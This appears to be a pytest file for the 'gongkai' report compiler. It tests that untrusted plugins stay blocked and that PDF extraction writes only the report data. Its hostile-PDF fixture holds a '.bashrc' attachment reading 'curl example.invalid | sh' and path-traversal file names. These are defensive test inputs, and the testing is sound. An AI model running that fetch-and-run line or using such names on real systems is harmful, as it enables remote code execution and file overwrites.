"""Issue 12, item 2: a report and a PDF received from elsewhere are untrusted.

A report's local plugins run only when the user says so (``--allow-plugins`` for one run,
``GONGKAI_TRUSTED_DIRS`` for a folder) and only from inside the report's folder; ``gongkai extract`` writes
only the report TOML and the data JSON, whatever else the PDF carries."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
import tomli_w
from pypdf import PdfReader, PdfWriter

from compiler.build import build
from tests.conftest import legacy

ROOT = Path(__file__).resolve().parent.parent

PLUGIN = """
from pathlib import Path
Path(__file__).with_name("RAN").write_text("imported")
"""


def gongkai(*args: str | Path, cwd: Path, **env: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k not in ("GONGKAI_ALLOW_PLUGINS", "GONGKAI_TRUSTED_DIRS")}
    environ.update(PYTHONPATH=str(ROOT), PYTHONDONTWRITEBYTECODE="1", **env)
    return subprocess.run(
        [sys.executable, "-m", "compiler", *map(str, args)], cwd=cwd, env=environ, capture_output=True, text=True
    )


def report_with_plugin(folder: Path, names: list[str]) -> Path:
    (folder / "helper.py").write_text(PLUGIN, encoding="utf-8")
    path = folder / "report.toml"
    path.write_text(tomli_w.dumps({**legacy(), "plugins": names}), encoding="utf-8")
    return path


@pytest.mark.parametrize("command", ["check", "build"])
def test_a_reports_plugin_never_runs_unless_allowed(tmp_path: Path, command: str) -> None:
    report_with_plugin(tmp_path, ["helper.py"])
    done = gongkai(command, "report.toml", cwd=tmp_path)
    assert done.returncode == 2
    out = done.stdout + done.stderr
    assert "[plugin.not-allowed]" in out and "Traceback" not in out
    assert str(tmp_path / "helper.py") in out  # which code would run
    assert "--allow-plugins" in out and "GONGKAI_TRUSTED_DIRS" in out  # how to allow it
    assert "report.toml:" in out  # with the file and line of plugins = [...]
    assert not (tmp_path / "RAN").exists()
    assert not (tmp_path / "report.pdf").exists()


def test_allowed_for_one_run_or_for_a_folder(tmp_path: Path) -> None:
    report_with_plugin(tmp_path, ["helper.py"])
    assert gongkai("check", "report.toml", "--allow-plugins", cwd=tmp_path).returncode in (0, 1)
    assert (tmp_path / "RAN").exists()
    (tmp_path / "RAN").unlink()
    assert gongkai("check", "report.toml", cwd=tmp_path, GONGKAI_TRUSTED_DIRS=str(tmp_path.parent)).returncode < 2
    assert (tmp_path / "RAN").exists()
    (tmp_path / "RAN").unlink()
    other = tmp_path.parent / (tmp_path.name + "-other")
    other.mkdir()
    assert gongkai("check", "report.toml", cwd=tmp_path, GONGKAI_TRUSTED_DIRS=str(other)).returncode == 2
    assert not (tmp_path / "RAN").exists()


@pytest.mark.parametrize("name", ["/tmp/helper.py", "../helper.py", "sub/../../helper.py", "link.py"])
def test_plugins_outside_the_reports_folder_are_refused_even_when_allowed(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "report"
    folder.mkdir()
    (tmp_path / "helper.py").write_text(PLUGIN, encoding="utf-8")
    (folder / "link.py").symlink_to(tmp_path / "helper.py")
    path = folder / "report.toml"
    path.write_text(tomli_w.dumps({**legacy(), "plugins": [name]}), encoding="utf-8")
    done = gongkai("check", "report.toml", "--allow-plugins", cwd=folder)
    assert done.returncode == 2 and "[plugin.outside-folder]" in done.stdout + done.stderr
    assert not (tmp_path / "RAN").exists()


# ---------------------------------------------------------------------------------------------- extract


def hostile_pdf(tmp_path: Path, toml_name: str = "report.toml") -> Path:
    """A gongkai PDF whose maker added a script, a dotfile and a path-traversal name beside the data."""
    path = tmp_path / "src" / "report.toml"
    path.parent.mkdir()
    path.write_text(tomli_w.dumps(legacy()), encoding="utf-8")
    built = build(path).output
    reader = PdfReader(built)
    writer = PdfWriter(clone_from=reader)
    if toml_name != "report.toml":  # the same data under another name
        files = {n: c[0] for n, c in reader.attachments.items()}
        writer = PdfWriter()
        for page in reader.pages:
            writer.add_page(page)
        writer.add_attachment(toml_name, files["report.toml"])
        writer.add_attachment(toml_name[: -len(".toml")] + ".data.json", files["report.data.json"])
    writer.add_attachment("evil.py", b"import os\n")
    writer.add_attachment(".bashrc", b"curl example.invalid | sh\n")
    writer.add_attachment("../../outside.txt", b"x")
    out = tmp_path / "hostile.pdf"
    buffer = io.BytesIO()
    writer.write(buffer)
    out.write_bytes(buffer.getvalue())
    return out


def test_extract_writes_only_the_report_data_and_lists_the_rest(tmp_path: Path) -> None:
    pdf = hostile_pdf(tmp_path)
    out = tmp_path / "out"
    done = gongkai("extract", pdf, "-o", out, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["report.data.json", "report.toml"]
    for name in ("evil.py", ".bashrc", "../../outside.txt"):
        assert f"“{name}”" in done.stderr and "未写出" in done.stderr
    assert not (tmp_path / "outside.txt").exists()


@pytest.mark.parametrize("name", ["../../.bashrc.toml", ".hidden.toml", "a\u202etxt.toml", "x" * 300 + ".toml"])
def test_extract_writes_odd_names_as_report_toml(tmp_path: Path, name: str) -> None:
    pdf = hostile_pdf(tmp_path, name)
    out = tmp_path / "out"
    done = gongkai("extract", pdf, "-o", out, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["report.data.json", "report.toml"]


def test_extract_onto_a_file_or_a_link_is_a_message(tmp_path: Path) -> None:
    pdf = hostile_pdf(tmp_path)
    target = tmp_path / "afile"
    target.write_text("keep", encoding="utf-8")
    done = gongkai("extract", pdf, "-o", target, cwd=tmp_path)
    assert done.returncode == 2 and "-o 应是一个目录" in done.stderr and "Traceback" not in done.stderr
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.toml").symlink_to(target)
    done = gongkai("extract", pdf, "-o", out, "--force", cwd=tmp_path)
    assert done.returncode == 2 and "不是普通文件" in done.stderr
    assert target.read_text(encoding="utf-8") == "keep"
    assert not (out / "report.data.json").exists()
